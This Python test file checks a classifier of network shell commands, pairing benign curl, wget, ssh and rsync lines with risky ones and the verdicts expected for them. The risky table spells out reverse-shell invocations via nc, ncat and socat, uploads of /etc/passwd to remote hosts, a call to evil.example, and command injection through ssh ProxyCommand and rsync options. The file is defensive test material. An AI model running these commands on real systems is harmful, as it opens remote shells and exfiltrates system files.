"""Programs that talk to other machines: what they send, fetch and start."""

from __future__ import annotations

import pytest

from unit.policy.commands.opening import Tables

pytestmark = pytest.mark.requirement("POL-2", "POL-3")

EVERYDAY = r"""
ssh -o UserKnownHostsFile=/dev/null h
curl https://example.com
curl -sSL https://x/y -o out
curl -fsSL https://x
curl -X POST -H 'Content-Type: application/json' -d '{"a":1}' http://localhost
curl -I https://x
curl -u a:b https://x
curl -s http://localhost:8080/health
wget https://x/y.tgz
wget -qO- https://x
ssh-keygen -t ed25519 -f k -N ''
scp a host:b
rsync -av src/ host:dst/
rsync -avz --delete -e ssh src/ host:dst/
openssl rand -hex 32
openssl x509 -in c.pem -noout -text
curl --retry 3 --noproxy localhost https://x
"""

FOUND = r"""
ssh -o UserKnownHostsFile=/x h -> write /x
curl http://localhost evil.example -> danger evil.example
curl http://localhost --next evil.example -> danger --next | danger evil.example
curl http://localhost --url evil.example -> danger --url
curl evil.example -> danger evil.example
ssh h rm x -> script rm x
ssh -oProxyCommand='rm x' h -> script rm x
ssh -o 'ProxyCommand rm x' h -> script rm x
ssh -o PermitLocalCommand=yes -o LocalCommand='rm' h -> danger -o | script rm
ssh -F f h -> danger -F
scp -S x a h:b -> open x | read a
scp -oProxyCommand=x a b -> read a | script x | write b
sftp -S x h -> open x
sftp -o x h -> danger -o
rsync -e 'sh -c x' a b:c -> read a | script sh -c x
rsync --rsh='sh -c x' a b:c -> read a | script sh -c x
rsync --rs='sh -c x' a b:c -> read a | script sh -c x
rsync -avze 'sh -c x' a b:c -> read a | script sh -c x
rsync --rsync-path='rm x' a b:c -> read a | script rm x
tcpdump -z rm -w x -> open rm | write x
tcpdump -Z root -> danger -Z
wireshark -X lua_script:x -> danger -X
nmap --script x h -> danger --script
lftp -e '!rm' -> danger -e | stdin lftp
socat EXEC:rm - -> danger socat
socat TCP:x SYSTEM:y -> danger socat
nc -e /bin/sh h 1 -> danger -e
nc h 1 -c sh -> danger -c
ncat --exec sh h -> danger --exec
wget --use-askpass=x u -> open x
wget -e use_askpass=x u -> danger -e
wget --post-file=/etc/passwd u -> read /etc/passwd
wget -O /etc/x u -> write /etc/x
curl -K f -> danger -K | read f | read …
curl -o /etc/x http://h -> write /etc/x
curl -T /etc/passwd http://h -> read /etc/passwd
curl -d @/etc/passwd http://h -> read /etc/passwd
curl --data-binary=@/etc/passwd http://h -> read /etc/passwd
curl --data-b @/etc/passwd http://h -> read /etc/passwd
curl -F x=@/etc/passwd http://h -> read /etc/passwd
curl file:///etc/passwd -> read /etc/passwd
curl --unix-socket /var/run/docker.sock http://x -> danger --unix-socket
curl --proxy http://x http://h -> danger --proxy
curl --prox=http://x http://h -> danger --prox
curl -x http://x http://h -> danger -x
curl -sSLxhttp://x http://h -> danger -sSLx
curl --preproxy x http://h -> danger --preproxy
curl --socks5-hostname x http://h -> danger --socks5-hostname
curl --interface eth1 http://h -> danger --interface
curl --resolve a:443:1.2.3.4 https://a -> danger --resolve
curl --connect-to a:443:b:443 https://a -> danger --connect-to
curl --dns-servers 1.2.3.4 http://h -> danger --dns-servers
curl --doh-url https://x http://h -> danger --doh-url
curl @u -> danger | danger
aria2c --on-download-complete=x u -> open x
openssl req -engine x -> danger -engine
openssl s_server -> danger s_server
ssh-agent sh -c rm -> inner sh -c rm
sshpass -p x ssh h rm -> inner ssh h rm
yt-dlp --exec rm u -> danger --exec
mosh --ssh='rm' h -> script rm
"""


class TestTables(Tables):
    """What stands in `EVERYDAY` and `FOUND`."""
